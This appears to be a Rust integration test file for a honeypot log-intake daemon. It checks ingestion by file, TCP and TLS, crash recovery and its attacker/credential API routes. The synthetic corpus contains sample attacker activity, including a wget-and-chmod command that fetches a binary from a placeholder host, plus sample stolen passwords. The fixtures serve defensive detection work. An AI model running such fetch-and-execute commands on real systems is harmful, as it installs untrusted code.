//! Intake end to end: the same corpus through `ingest_files`, the file tail, plain TCP and
//! TLS (client certificate made here with rcgen) gives identical rows; a crash between or
//! inside batches loses and duplicates nothing; storage on both backends.
//!
//! PostgreSQL cases: `eval "$(scripts/pg start)"; cargo test --test intake; scripts/pg stop`.

#[macro_use]
mod common;

use std::io::Write;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use decnetd::actors::ingester::{ingest_files, FileTail, IngestCounters, Pipeline, TailRead};
use decnetd::config::{IngestSettings, Settings};
use decnetd::db::repo::intake as repo;
use decnetd::db::Db;
use decnetd::domain::syslog::credential::sha256_hex;
use decnetd::domain::syslog::sd::render_relay_element;
use decnetd::testkit;

/// Deterministic corpus: the spec's example lines, a credential reused across deckies,
/// traversals, prober results, wrapped bash, noise, duplicates and garbage.
fn corpus() -> Vec<String> {
    let mut v: Vec<String> = vec![
        r#"<134>1 2026-05-14T09:12:03.481220+00:00 web-decky-03 auth-helper - auth_attempt [relay@55555 username="admin" principal="admin" secret_printable="P@ssw0rd!" secret_b64="UEBzc3cwcmQh" src_ip="203.0.113.45"]"#.into(),
        r#"<134>1 2026-05-14T09:12:05.002117+00:00 web-decky-03 auth-helper - auth_attempt [relay@55555 username="root" principal="root" secret_printable="?admin?" secret_b64="AGFkbWlu/w==" src_ip="203.0.113.45"]"#.into(),
        r#"<14>1 2026-05-14T09:12:41.102934+00:00 web-decky-03 1 - - -  2026-05-14T09:12:41.102911+00:00 web-decky-03 bash - command [timeQuality tzKnown="1" isSynced="1"] CMD uid=0 user=root src=203.0.113.45 pwd=/tmp cmd=wget -q http://198.51.100.23:8080/x86.bin -O /tmp/.x; chmod +x /tmp/.x"#.into(),
        r#"<134>1 2026-05-14T09:12:44.550102+00:00 web-decky-03 ssh - file_captured [relay@55555 stored_as="2026-05-14T09:12:44Z_7244c4edb45a_.x" sha256="7244c4edb45a6ebc164882075ba9c64484b7357a80cfc393135b8c442046a4c7" size="48212" orig_path="/tmp/.x" src_ip="203.0.113.45" src_port="51822" ssh_user="root" attribution="pid-chain" writer_comm="wget"]"#.into(),
        r#"<134>1 2026-05-14T09:20:10.004512+00:00 intranet-02 http - request [relay@55555 method="POST" path="/wp-login.php" remote_addr="198.51.100.77" headers="{\"Host\": \"10.20.0.12\", \"User-Agent\": \"Mozilla/5.0 (compatible; Nuclei - Open-source project)\", \"X-Forwarded-For\": \"127.0.0.1\", \"Content-Type\": \"application/x-www-form-urlencoded\"}" body="log=admin&pwd=letmein" principal="admin" secret_kind="plaintext" secret_printable="letmein" secret_b64="bGV0bWVpbg=="]"#.into(),
        r#"<134>1 2026-05-14T09:20:10.010230+00:00 intranet-02 http - http_request_fingerprint [relay@55555 remote_addr="198.51.100.77:40122" proto="h1" method="POST" path="/wp-login.php" ja4h="po11nn0000_04_3f2a1c9b8d7e_000000000000" headers_ordered="[\"host\"]" cookie="" accept_language=""]"#.into(),
        r#"<134>1 2026-05-14T09:21:55.771003+00:00 intranet-02 sniffer - tls_client_hello [relay@55555 src_ip="198.51.100.77" src_port="40130" dst_ip="10.20.0.12" dst_port="443" ja3="920a9eebe236a8205f28dd68763c3d0f" ja4="t13d1516h2_8daaf6152771_02713d6af862" tls_version="TLS 1.3" sni="intranet.corp.example" alpn="h2,http/1.1"]"#.into(),
        r#"<134>1 2026-05-14T09:25:00.120044+00:00 decnet-prober prober - jarm_fingerprint [relay@55555 target_ip="198.51.100.77" target_port="8443" jarm_hash="2ad2ad0002ad2ad22c2ad2ad2ad2ad2eac92ec34bcc0cf7520e97547f83e81"] JARM"#.into(),
        r#"<134>1 2026-05-14T09:25:01.884310+00:00 decnet-prober prober - tls_certificate [relay@55555 target_ip="198.51.100.77" target_port="8443" subject_cn="update-cdn.example" issuer="CN=update-cdn.example" self_signed="true" cert_sha256="9fbda61d1ee5d808b1f7169a5bf4085f16a248649a7e42dff0342df7562d7019"] TLS cert"#.into(),
        r#"<134>1 2026-05-14T09:30:00.000412+00:00 mail-01 smtp - connect [relay@55555 src_ip="192.0.2.10" src_port="50022"]"#.into(),
        r#"<134>1 2026-05-14T09:30:00.500000+00:00 mail-01 smtp - connect [relay@55555 src_ip="192.0.2.10" src_port="50023"]"#.into(),
        r#"<38>1 2026-05-14T09:12:02.990001+00:00 web-decky-03 sshd 940 - - Failed password for admin from 203.0.113.45 port 51822 ssh2"#.into(),
        "Connection reset by peer".into(),
        r#"<134>1 2026-05-14T09:40:00Z db-07 mysql - auth [relay@55555 src_ip="192.0.2.99" broken="no end"#.into(),
        String::new(),
    ];
    let deckies = ["alpha", "beta", "gamma", "delta"];
    for i in 0..240u32 {
        let ip = format!("198.18.{}.{}", i % 7, 10 + (i % 13));
        let decky = deckies[(i % 4) as usize];
        let ts = format!(
            "2026-05-15T10:{:02}:{:02}.{:06}Z",
            (i / 60) % 60,
            i % 60,
            i * 7
        );
        let line = match i % 5 {
            0 => {
                let sd = render_relay_element([("username", "oracle"), ("secret_printable", "hunter2"), ("secret_b64", "aHVudGVyMg=="), ("src_ip", ip.as_str())]);
                format!("<134>1 {ts} {decky} ssh - auth_attempt {sd}")
            }
            1 => {
                let headers = format!(r#"{{"Host": "h", "User-Agent": "curl/8.{}", "Accept": "*/*"}}"#, i % 3);
                let sd = render_relay_element([("method", "GET"), ("path", "/x"), ("remote_addr", &format!("{ip}:{}", 1000 + i)), ("headers", &headers)]);
                format!("<134>1 {ts} {decky} http - request {sd}")
            }
            2 => format!("<14>1 {ts} {decky} 1 - - -  {ts} {decky} bash - command - CMD uid=0 user=root src={ip} pwd=/ cmd=id -u {i}"),
            3 => {
                let sd = render_relay_element([("target_ip", ip.as_str()), ("target_port", "22"), ("hassh_server_hash", "4b93a7ce3a336cf77b1fea112db4400c"), ("note", "esc \"q\" ] b")]);
                format!("<134>1 {ts} decnet-prober prober - hassh_fingerprint {sd}")
            }
            _ => {
                let sd = render_relay_element([("src_ip", ip.as_str()), ("query", "SELECT 1")]);
                format!("<134>1 {ts} {decky} mysql - query {sd}")
            }
        };
        v.push(line);
    }
    // an exact duplicate line (replayed by a forwarder) must not double anything
    let dup = v[0].clone();
    v.push(dup);
    v
}

fn write_lines(path: &Path, lines: &[String]) {
    let mut f = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(path)
        .unwrap();
    for l in lines {
        writeln!(f, "{l}").unwrap();
    }
}

/// Lines as the pipeline receives them.
fn raw(lines: &[String]) -> Vec<decnetd::actors::ingester::RawLine> {
    lines
        .iter()
        .map(|l| {
            decnetd::actors::ingester::RawLine::new(l.as_bytes().to_vec(), "test".into(), None)
        })
        .collect()
}

/// One raw SQL statement (tests that break or purge tables by hand).
async fn exec(db: &Db, sql: &str) -> Result<usize, decnetd::db::DbError> {
    use diesel_async::RunQueryDsl;
    decnetd::db_run!(db, |c| Ok(diesel::sql_query(sql).execute(c).await?))
}

fn ingest_settings() -> IngestSettings {
    IngestSettings {
        batch_size: 50,
        batch_max_wait_ms: 50,
        reuse_poll_s: 0.2,
        ..IngestSettings::default()
    }
}

/// Everything but ids, uuids and write times, in a stable order.
async fn snapshot(db: &Db) -> serde_json::Value {
    let logs: Vec<_> = repo::all_logs(db)
        .await
        .unwrap()
        .into_iter()
        .map(|l| {
            serde_json::json!([
                l.timestamp.to_string(),
                l.decky,
                l.service,
                l.event_type,
                l.attacker_ip,
                l.raw_line,
                l.fields,
                l.msg
            ])
        })
        .collect();
    let attackers: Vec<_> = repo::all_attackers(db)
        .await
        .unwrap()
        .into_iter()
        .map(|a| {
            let mut fps: serde_json::Value = serde_json::from_str(&a.fingerprints).unwrap();
            for fp in fps.as_array_mut().unwrap() {
                fp.as_object_mut().unwrap().remove("id");
            }
            serde_json::json!([
                a.ip,
                a.first_seen.to_string(),
                a.last_seen.to_string(),
                a.event_count,
                a.service_count,
                a.decky_count,
                a.services,
                a.deckies,
                a.traversal_path,
                a.is_traversal,
                a.bounty_count,
                a.credential_count,
                fps,
                a.commands
            ])
        })
        .collect();
    let creds: Vec<_> = repo::all_credentials(db)
        .await
        .unwrap()
        .into_iter()
        .map(|c| {
            serde_json::json!([
                c.attacker_ip,
                c.decky_name,
                c.service,
                c.principal,
                c.secret_kind,
                c.secret_sha256,
                c.secret_b64,
                c.attempt_count,
                c.fields,
                c.first_seen.to_string(),
                c.attacker_uuid.is_some()
            ])
        })
        .collect();
    let mut bounties = repo::all_bounties(db).await.unwrap();
    bounties.sort();
    let mut reuse: Vec<_> = repo::all_reuse(db)
        .await
        .unwrap()
        .into_iter()
        .map(|r| {
            serde_json::json!([
                r.secret_sha256,
                r.principal,
                r.attacker_ips,
                r.deckies,
                r.services,
                r.target_count,
                r.attempt_count
            ])
        })
        .collect();
    reuse.sort_by_key(|v| v.to_string());
    serde_json::json!({"logs": logs, "attackers": attackers, "credentials": creds, "bounty": bounties, "reuse": reuse})
}

on_both_backends!(
    replay_is_idempotent_and_rows_are_right,
    crash_between_and_inside_batches,
    reuse_pass_follows_every_credential_write
);

async fn replay_is_idempotent_and_rows_are_right(db: &Db) {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("corpus.log");
    let lines = corpus();
    write_lines(&file, &lines);
    let s = ingest_settings();
    let first = ingest_files(db, None, &s, std::slice::from_ref(&file), false)
        .await
        .unwrap();
    assert_eq!(first.lines, lines.len() as u64);
    // 2 garbage lines quarantined; sshd and one rate-limited connect filtered; 1 duplicate; 1 empty
    assert_eq!(first.quarantined, 2);
    assert_eq!(first.duplicates, 1);
    let stored = repo::count_logs(db).await.unwrap();
    assert_eq!(stored as u64, first.logs_inserted);
    assert_eq!(first.logs_inserted, lines.len() as u64 - 2 - 2 - 1 - 1);
    let (qtotal, q) = repo::list_quarantine(db, 10, 0).await.unwrap();
    assert_eq!(qtotal, 2);
    assert!(q.iter().any(|r| r.reason_code == "not_syslog"));
    assert!(q.iter().any(|r| r.reason_code == "structured_data"));

    let creds = repo::all_credentials(db).await.unwrap();
    let bytes_cred = creds
        .iter()
        .find(|c| c.principal.as_deref() == Some("root") && c.attacker_ip == "203.0.113.45")
        .unwrap();
    assert_eq!(
        bytes_cred.secret_sha256,
        sha256_hex(&[0, 0x61, 0x64, 0x6d, 0x69, 0x6e, 0xff])
    );
    let admin = creds
        .iter()
        .find(|c| c.principal.as_deref() == Some("admin") && c.decky_name == "web-decky-03")
        .unwrap();
    assert_eq!(
        admin.attempt_count, 1,
        "the duplicated line did not count twice"
    );
    assert!(
        creds.iter().all(|c| c.attacker_uuid.is_some()),
        "uuids back-filled"
    );

    let attackers = repo::all_attackers(db).await.unwrap();
    let a = attackers.iter().find(|a| a.ip == "203.0.113.45").unwrap();
    assert_eq!(a.event_count, 4);
    assert_eq!(a.credential_count, 2);
    let cmds: serde_json::Value = serde_json::from_str(&a.commands).unwrap();
    assert_eq!(
        cmds[0]["command"],
        "wget -q http://198.51.100.23:8080/x86.bin -O /tmp/.x; chmod +x /tmp/.x"
    );
    let m = attackers.iter().find(|a| a.ip == "198.51.100.77").unwrap();
    let fps: serde_json::Value = serde_json::from_str(&m.fingerprints).unwrap();
    let kinds: Vec<&str> = fps
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["payload"]["fingerprint_type"].as_str().unwrap())
        .collect();
    assert_eq!(
        kinds,
        vec![
            "http_useragent",
            "spoofed_source",
            "http_quirks",
            "ja4h",
            "ja3",
            "jarm",
            "tls_certificate"
        ]
    );
    assert!(!m.is_traversal);
    assert!(attackers.iter().any(|a| a.is_traversal
        && a.traversal_path
            .as_deref()
            .is_some_and(|p| p.contains(" → "))));

    let reuse = repo::all_reuse(db).await.unwrap();
    let hunter = reuse
        .iter()
        .find(|r| r.secret_sha256 == sha256_hex(b"hunter2"))
        .unwrap();
    assert_eq!(hunter.target_count, 4);
    assert_eq!(first.reuse_findings, reuse.len() as u64);

    // a second run adds nothing at all
    let before = snapshot(db).await;
    let second = ingest_files(db, None, &s, &[file], false).await.unwrap();
    assert_eq!(second.logs_inserted, 0);
    assert_eq!(second.quarantined, 0);
    assert_eq!(second.reuse_findings, 0, "no drift on an idle pass");
    assert_eq!(snapshot(db).await, before);
}

async fn reference_snapshot(lines: &[String]) -> serde_json::Value {
    let (_d, db) = common::sqlite_db().await;
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("ref.log");
    write_lines(&file, lines);
    ingest_files(&db, None, &ingest_settings(), &[file], false)
        .await
        .unwrap();
    snapshot(&db).await
}

/// Drive the real tail + pipeline by hand: commit some batches, cancel one commit midway
/// (its transaction rolls back), drop everything ("crash"), restart from the stored offset.
async fn crash_between_and_inside_batches(db: &Db) {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("ingest.log");
    let lines = corpus();
    write_lines(&file, &lines);
    // a partial trailing line must wait for its newline
    {
        let mut f = std::fs::OpenOptions::new()
            .append(true)
            .open(&file)
            .unwrap();
        write!(
            f,
            "<134>1 2026-05-16T00:00:00Z zeta ftp - user [relay@55555 src_ip=\"192.0.2.200\""
        )
        .unwrap();
    }
    // The first process folds its first batch into `attackers` and then never again: the
    // second batch is committed but not profiled when it "crashes".
    let first = IngestSettings {
        profile_interval_ms: 3_600_000,
        ..ingest_settings()
    };
    let s = ingest_settings();
    let counters = Arc::new(IngestCounters::default());
    {
        let mut tail = FileTail::load(db, &file).await.unwrap();
        let mut p = Pipeline::new(db.clone(), None, &first, counters.clone());
        for _ in 0..2 {
            let TailRead::Lines(batch, end) = tail.read(40).unwrap() else {
                panic!("expected lines")
            };
            p.commit(&batch, Some(end)).await.unwrap();
            tail.position = end;
        }
        let TailRead::Lines(batch, end) = tail.read(40).unwrap() else {
            panic!("expected lines")
        };
        // cancelled inside the transaction: nothing of it may stick
        let _ = tokio::time::timeout(Duration::from_micros(50), p.commit(&batch, Some(end))).await;
        // and a profiler pass cancelled midway leaves the cursor where it was
        let _ = tokio::time::timeout(Duration::from_micros(50), p.profile_pass()).await;
    }
    let folded_before_restart = decnetd::db::repo::state::get(db, repo::PROFILE_CURSOR_KEY)
        .await
        .unwrap()
        .unwrap();
    tokio::time::sleep(Duration::from_millis(200)).await;
    {
        let mut tail = FileTail::load(db, &file).await.unwrap();
        let mut p = Pipeline::new(db.clone(), None, &s, counters.clone());
        loop {
            match tail.read(40).unwrap() {
                TailRead::Lines(batch, end) => {
                    p.commit(&batch, Some(end)).await.unwrap();
                    tail.position = end;
                }
                TailRead::Reset => continue,
                TailRead::Idle => break,
            }
        }
        // what the daemon loop does when its input goes idle
        assert!(p.profile_due(true));
        p.profile_if_due(true).await;
        p.reuse_pass(s.reuse_min_targets).await.unwrap();
    }
    // the partial line was not consumed
    let stored = decnetd::db::repo::state::get(db, "ingest_worker_position")
        .await
        .unwrap()
        .unwrap();
    let complete_len: u64 = lines.iter().map(|l| l.len() as u64 + 1).sum();
    assert_eq!(stored["position"], complete_len);
    assert_eq!(snapshot(db).await, reference_snapshot(&lines).await);
    let folded = decnetd::db::repo::state::get(db, repo::PROFILE_CURSOR_KEY)
        .await
        .unwrap()
        .unwrap();
    assert!(
        folded["log_id"].as_i64() > folded_before_restart["log_id"].as_i64(),
        "the restarted pipeline folded what the first one left: {folded_before_restart} → {folded}"
    );
    // truncation resets to 0 (persisted by the daemon loop; here: the tail reports it)
    std::fs::write(&file, b"").unwrap();
    let mut tail = FileTail::load(db, &file).await.unwrap();
    assert!(matches!(tail.read(10).unwrap(), TailRead::Reset));
    assert_eq!(tail.position, 0);
}

// ---------------------------------------------------------------- the daemon, three ways

fn daemon_settings(dir: &Path) -> Settings {
    let mut s = testkit::settings(dir, None);
    s.ingest = IngestSettings {
        log_file: dir.join("ingest.log"),
        ..ingest_settings()
    };
    s.workers.disabled = decnetd::actors::supervisor::DISPLAY_ORDER
        .iter()
        .filter(|n| !matches!(**n, "ingester" | "heartbeat" | "api" | "bus"))
        .map(|n| n.to_string())
        .collect();
    s
}

/// [`daemon_settings`] with the plain TCP listener on a free loopback port.
fn tcp_daemon_settings(dir: &Path) -> (Settings, u16) {
    let mut s = daemon_settings(dir);
    let port = free_port();
    s.ingest.syslog_tcp_bind = Some(format!("127.0.0.1:{port}"));
    (s, port)
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

async fn wait_for_rows(db: &Db, want: i64) {
    let ok = testkit::eventually(Duration::from_secs(60), || async {
        let n = repo::count_logs(db).await.ok()?;
        let reuse = repo::all_reuse(db).await.ok()?;
        (n >= want && !reuse.is_empty()).then_some(())
    })
    .await;
    if ok.is_none() {
        let n = repo::count_logs(db).await.unwrap();
        let r = repo::all_reuse(db).await.unwrap().len();
        let q = repo::list_quarantine(db, 100, 0).await.unwrap();
        panic!("rows did not arrive: {n} logs of {want}, {r} reuse rows, quarantine {q:?}");
    }
    // let the reuse pass settle
    tokio::time::sleep(Duration::from_millis(1500)).await;
}

fn octet_frames(lines: &[String]) -> Vec<u8> {
    let mut out = Vec::new();
    // RFC 6587 lengths are non-zero: an empty line only exists in newline framing.
    for (i, l) in lines.iter().filter(|l| !l.is_empty()).enumerate() {
        if i % 2 == 0 {
            out.extend_from_slice(format!("{} ", l.len()).as_bytes());
            out.extend_from_slice(l.as_bytes());
        } else {
            out.extend_from_slice(l.as_bytes());
            out.push(b'\n');
        }
    }
    out
}

struct Pki {
    ca_pem: String,
    server_pem: String,
    server_key: String,
    client_der: Vec<u8>,
    client_key_der: Vec<u8>,
    ca_der: Vec<u8>,
}

fn make_pki() -> Pki {
    use rcgen::{BasicConstraints, CertificateParams, DnType, IsCa, KeyPair};
    let mut ca = CertificateParams::new(Vec::<String>::new()).unwrap();
    ca.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    ca.distinguished_name
        .push(DnType::CommonName, "DECNET test CA");
    let ca_key = KeyPair::generate().unwrap();
    let ca_cert = ca.self_signed(&ca_key).unwrap();
    let srv =
        CertificateParams::new(vec!["localhost".to_string(), "127.0.0.1".to_string()]).unwrap();
    let srv_key = KeyPair::generate().unwrap();
    let srv_cert = srv.signed_by(&srv_key, &ca_cert, &ca_key).unwrap();
    let mut cli = CertificateParams::new(Vec::<String>::new()).unwrap();
    cli.distinguished_name.push(DnType::CommonName, "worker-7");
    let cli_key = KeyPair::generate().unwrap();
    let cli_cert = cli.signed_by(&cli_key, &ca_cert, &ca_key).unwrap();
    Pki {
        ca_pem: ca_cert.pem(),
        server_pem: srv_cert.pem(),
        server_key: srv_key.serialize_pem(),
        client_der: cli_cert.der().to_vec(),
        client_key_der: cli_key.serialize_der(),
        ca_der: ca_cert.der().to_vec(),
    }
}

/// Write the server PKI into `dir` and turn the TLS listener on at `port`.
fn with_tls(s: &mut Settings, dir: &Path, pki: &Pki, port: u16) {
    for (name, pem) in [
        ("ca.pem", &pki.ca_pem),
        ("srv.pem", &pki.server_pem),
        ("srv.key", &pki.server_key),
    ] {
        std::fs::write(dir.join(name), pem).unwrap();
    }
    s.ingest.syslog_tls_host = "127.0.0.1".into();
    s.ingest.syslog_tls_port = port;
    s.ingest.tls_ca = Some(dir.join("ca.pem"));
    s.ingest.tls_cert = Some(dir.join("srv.pem"));
    s.ingest.tls_key = Some(dir.join("srv.key"));
}

async fn tls_send(port: u16, pki: &Pki, payload: &[u8]) {
    use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer, ServerName};
    use tokio::io::AsyncWriteExt;
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let mut roots = rustls::RootCertStore::empty();
    roots.add(CertificateDer::from(pki.ca_der.clone())).unwrap();
    let cfg = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(roots)
        .with_client_auth_cert(
            vec![CertificateDer::from(pki.client_der.clone())],
            PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(pki.client_key_der.clone())),
        )
        .unwrap();
    let connector = tokio_rustls::TlsConnector::from(Arc::new(cfg));
    let tcp = tokio::net::TcpStream::connect(("127.0.0.1", port))
        .await
        .unwrap();
    let mut tls = connector
        .connect(ServerName::try_from("localhost").unwrap(), tcp)
        .await
        .unwrap();
    tls.write_all(payload).await.unwrap();
    tls.flush().await.unwrap();
    tls.shutdown().await.unwrap();
}

#[actix_rt::test]
async fn same_corpus_three_ways_gives_identical_rows() {
    let lines = corpus();
    let expected_logs = {
        let (_d, db) = common::sqlite_db().await;
        let dir = tempfile::tempdir().unwrap();
        let f = dir.path().join("x.log");
        write_lines(&f, &lines);
        ingest_files(&db, None, &ingest_settings(), &[f], false)
            .await
            .unwrap()
            .logs_inserted as i64
    };
    let reference = reference_snapshot(&lines).await;

    // 1. file tail, with a restart of the daemon half-way (no loss, no duplicates)
    let dir = tempfile::tempdir().unwrap();
    let s = daemon_settings(dir.path());
    let half = lines.len() / 2;
    write_lines(&s.ingest.log_file, &lines[..half]);
    let app = testkit::start(s.clone()).await.unwrap();
    let ok = testkit::eventually(Duration::from_secs(60), || async {
        let st = decnetd::db::repo::state::get(&app.state.db, "ingest_worker_position")
            .await
            .ok()??;
        let want: u64 = lines[..half].iter().map(|l| l.len() as u64 + 1).sum();
        (st["position"].as_u64()? == want).then_some(())
    })
    .await;
    assert!(ok.is_some(), "first half not ingested");
    app.stop().await;
    write_lines(&s.ingest.log_file, &lines[half..]);
    let app = testkit::start(s.clone()).await.unwrap();
    wait_for_rows(&app.state.db, expected_logs).await;
    assert_eq!(snapshot(&app.state.db).await, reference, "file tail");
    app.stop().await;

    // 2. plain TCP, octet-counted and newline frames mixed
    let dir = tempfile::tempdir().unwrap();
    let (s, port) = tcp_daemon_settings(dir.path());
    let app = testkit::start(s).await.unwrap();
    {
        use tokio::io::AsyncWriteExt;
        let mut sock = None;
        for _ in 0..100 {
            if let Ok(c) = tokio::net::TcpStream::connect(("127.0.0.1", port)).await {
                sock = Some(c);
                break;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        let mut sock = sock.expect("TCP listener up");
        sock.write_all(&octet_frames(&lines)).await.unwrap();
        sock.shutdown().await.unwrap();
        // an oversize frame closes only its own connection
        let mut bad = tokio::net::TcpStream::connect(("127.0.0.1", port))
            .await
            .unwrap();
        let _ = bad.write_all(b"99999999 xx").await;
    }
    wait_for_rows(&app.state.db, expected_logs).await;
    assert_eq!(snapshot(&app.state.db).await, reference, "TCP");
    app.stop().await;

    // 3. TLS with a client certificate; CN recorded as source_worker
    let dir = tempfile::tempdir().unwrap();
    let pki = make_pki();
    let mut s = daemon_settings(dir.path());
    let port = free_port();
    with_tls(&mut s, dir.path(), &pki, port);
    let app = testkit::start(s).await.unwrap();
    tokio::time::sleep(Duration::from_millis(300)).await;
    tls_send(port, &pki, &octet_frames(&lines)).await;
    wait_for_rows(&app.state.db, expected_logs).await;
    assert_eq!(snapshot(&app.state.db).await, reference, "TLS");
    let logs = repo::all_logs(&app.state.db).await.unwrap();
    assert!(logs
        .iter()
        .all(|l| l.source_worker.as_deref() == Some("worker-7")));
    app.stop().await;
}

// ---------------------------------------------------------------- HTTP routes

#[actix_rt::test]
async fn routes_serve_the_ingested_rows() {
    let dir = tempfile::tempdir().unwrap();
    let s = daemon_settings(dir.path());
    let app = testkit::start(s).await.unwrap();
    let file = dir.path().join("corpus.log");
    write_lines(&file, &corpus());
    ingest_files(&app.state.db, None, &ingest_settings(), &[file], false)
        .await
        .unwrap();
    let token = testkit::token_for(&app, "viewer1", "viewer").await;
    let base = format!("{}/api/v1", app.base_url());
    let client = reqwest::Client::new();
    let get = |path: String| {
        let req = client.get(format!("{base}{path}")).bearer_auth(&token);
        async move {
            let r = req.send().await.unwrap();
            let status = r.status().as_u16();
            (
                status,
                r.json::<serde_json::Value>().await.unwrap_or_default(),
            )
        }
    };

    // 401 without a token
    let r = client
        .get(format!("{base}/credential-reuse"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 401);

    let (st, body) = get("/attackers?limit=5&sort_by=active".into()).await;
    assert_eq!(st, 200, "{body}");
    assert!(body["total"].as_i64().unwrap() > 5);
    assert_eq!(body["data"].as_array().unwrap().len(), 5);
    let counts: Vec<i64> = body["data"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["event_count"].as_i64().unwrap())
        .collect();
    assert!(counts.windows(2).all(|w| w[0] >= w[1]));
    assert!(body["data"][0]["services"].is_array());
    assert!(body["data"][0]["first_seen"]
        .as_str()
        .unwrap()
        .ends_with('Z'));
    let (st, _) = get("/attackers?sort_by=bogus".into()).await;
    assert_eq!(st, 422);
    let (_, body) = get("/attackers?search=198.51.100.77&service=null".into()).await;
    assert_eq!(body["total"], 1);
    let uuid = body["data"][0]["uuid"].as_str().unwrap().to_string();
    let (_, body) = get("/attackers?service=sniffer".into()).await;
    assert_eq!(body["total"], 1);

    let (st, detail) = get(format!("/attackers/{uuid}")).await;
    assert_eq!(st, 200);
    assert_eq!(
        detail["fingerprints"][0]["payload"]["fingerprint_type"],
        "http_useragent"
    );
    assert_eq!(
        detail["service_activity"]["scanned"],
        serde_json::json!(["http", "prober", "sniffer"])
    );
    assert_eq!(detail["ip_leaks_total"], 0);
    assert!(detail["behavior"].is_null());
    let (st, body) = get("/attackers/no-such-uuid".into()).await;
    assert_eq!(
        (st, body["detail"].as_str()),
        (404, Some("Attacker not found"))
    );

    let (_, body) = get("/attackers?search=203.0.113.45".into()).await;
    let a45 = body["data"][0]["uuid"].as_str().unwrap().to_string();
    let (st, cmds) = get(format!("/attackers/{a45}/commands?limit=999")).await;
    assert_eq!(st, 200, "commands never answer 422");
    assert_eq!(cmds["total"], 1);
    let (_, arts) = get(format!("/attackers/{a45}/artifacts")).await;
    assert_eq!(arts["total"], 1);

    // SMTP targets: RCPT domains, special-use names left out, the accepted list not recounted
    let smtp = dir.path().join("smtp.log");
    write_lines(
        &smtp,
        &[
            r#"<134>1 2026-05-14T09:30:01Z mail-01 smtp - rcpt_to [relay@55555 src_ip="192.0.2.10" value="<ceo@Corp.com>"]"#.into(),
            r#"<134>1 2026-05-14T09:30:02Z mail-01 smtp - rcpt_to [relay@55555 src_ip="192.0.2.10" value="hr@corp.com"]"#.into(),
            r#"<134>1 2026-05-14T09:30:03Z mail-01 smtp - rcpt_denied [relay@55555 src_ip="192.0.2.10" value="x@bank.net"]"#.into(),
            r#"<134>1 2026-05-14T09:30:04Z mail-01 smtp - message_accepted [relay@55555 src_ip="192.0.2.10" rcpt_to="ceo@corp.com, a@lab.test"]"#.into(),
        ],
    );
    ingest_files(&app.state.db, None, &ingest_settings(), &[smtp], false)
        .await
        .unwrap();
    let (_, body) = get("/attackers?search=192.0.2.10".into()).await;
    let mailer = body["data"][0]["uuid"].as_str().unwrap().to_string();
    let (st, targets) = get(format!("/attackers/{mailer}/smtp-targets")).await;
    assert_eq!(st, 200, "{targets}");
    assert_eq!(
        targets,
        serde_json::json!({"total": 2, "data": [
            {"domain": "corp.com", "count": 2, "first_seen": "2026-05-14T09:30:01.000000Z", "last_seen": "2026-05-14T09:30:02.000000Z"},
            {"domain": "bank.net", "count": 1, "first_seen": "2026-05-14T09:30:03.000000Z", "last_seen": "2026-05-14T09:30:03.000000Z"},
        ]})
    );
    let (_, none) = get(format!("/attackers/{a45}/smtp-targets")).await;
    assert_eq!(none, serde_json::json!({"total": 0, "data": []}));
    let (st, _) = get("/attackers/no-such-uuid/smtp-targets".into()).await;
    assert_eq!(st, 404);

    let (_, creds) = get("/credentials?search=oracle&limit=3".into()).await;
    assert_eq!(creds["data"].as_array().unwrap().len(), 3);
    assert!(creds["data"][0]["fields"].is_object());
    let (_, creds) = get("/credentials?attacker_ip=203.0.113.45".into()).await;
    assert_eq!(creds["total"], 2);

    let (st, reuse) = get("/credential-reuse?limit=50".into()).await;
    assert_eq!(st, 200);
    let first = &reuse["data"][0];
    assert_eq!(first["secret_printable"], "hunter2");
    assert_eq!(first["secret_b64"], "aHVudGVyMg==");
    assert_eq!(first["target_count"], 4);
    assert!(first["attacker_ips"].is_array());
    let id = first["id"].as_str().unwrap().to_string();
    let (st, one) = get(format!("/credential-reuse/{id}")).await;
    assert_eq!(
        (st, one["secret_printable"].as_str()),
        (200, Some("hunter2"))
    );
    let (st, body) = get("/credential-reuse/nope".into()).await;
    assert_eq!(
        (st, body["detail"].as_str()),
        (404, Some("credential_reuse not found"))
    );
    let (_, none) = get("/credential-reuse?min_target_count=5".into()).await;
    assert_eq!(none["total"], 0);
    let (st, _) = get("/credential-reuse?min_target_count=1".into()).await;
    assert_eq!(st, 422);
    let (_, kind) = get("/credential-reuse?secret_kind=http_bearer".into()).await;
    assert_eq!(kind["total"], 0);

    let (_, logs) = get("/logs?search=service:mysql%20query:%22SELECT%201%22&limit=2".into()).await;
    assert_eq!(logs["total"], 48);
    let (_, logs) = get("/logs?search=decky:alpha%20event:command".into()).await;
    assert_eq!(logs["total"], 12);
    let (_, logs) = get("/logs?search=x86.bin".into()).await;
    assert_eq!(logs["total"], 1);
    // a read route like any other: viewers may read every list (platform §3.6)
    let (st, q) = get("/ingest/quarantine".into()).await;
    assert_eq!(st, 200, "{q}");
    assert!(q["total"].is_number(), "{q}");
    app.stop().await;
}

// ---------------------------------------------------------------- events after commit

#[actix_rt::test]
async fn events_follow_the_commit_and_carry_the_attacker() {
    use decnetd::actors::registry::{RegistryConfig, RegistryHandle, Subscription};
    use futures::StreamExt;

    async fn drain(sub: &mut Subscription) -> Vec<serde_json::Value> {
        let mut out = Vec::new();
        while let Ok(Some(env)) = tokio::time::timeout(Duration::from_millis(300), sub.next()).await
        {
            out.push(
                serde_json::json!({"topic": env.topic, "type": env.kind, "payload": env.payload}),
            );
        }
        out
    }

    let (_dir, db) = common::sqlite_db().await;
    let reg = RegistryHandle::start(RegistryConfig {
